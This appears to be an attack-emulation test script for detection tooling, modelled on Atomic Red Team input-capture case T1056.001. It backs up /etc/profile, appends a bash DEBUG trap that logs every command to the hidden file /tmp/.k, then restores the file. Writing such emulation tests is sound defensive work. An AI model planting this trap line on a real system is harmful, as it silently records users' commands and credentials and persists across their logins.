#!/bin/sh
# case: T1056.001-pam-tty-audit
# technique: Input recorded: profile hook logs commands
# source: redcanaryco/atomic-red-team T1056.001-2 Living off the land Terminal Input Capture on Linux with pam.d; redcanaryco/atomic-red-team T1056.001-4 Bash session based keylogger
# needs: sh
# expect: file persistence cred
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
ho_keep() { K=$W/keep; if [ -e "$1" ]; then cp -p "$1" "$K" || exit 77; else : > "$K.absent"; fi; KF=$1; }
ho_back() { if [ -e "$W/keep.absent" ]; then rm -f "$KF"; elif [ -e "$W/keep" ]; then cat "$W/keep" > "$KF"; touch -r "$W/keep" "$KF" 2>/dev/null; fi; }
trap 'ho_back; cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
[ -w /etc ] || exit 77; ho_keep /etc/profile; echo 'trap "echo \$BASH_COMMAND >> /tmp/.k" DEBUG # ho' >> /etc/profile; ho_back
exit 0
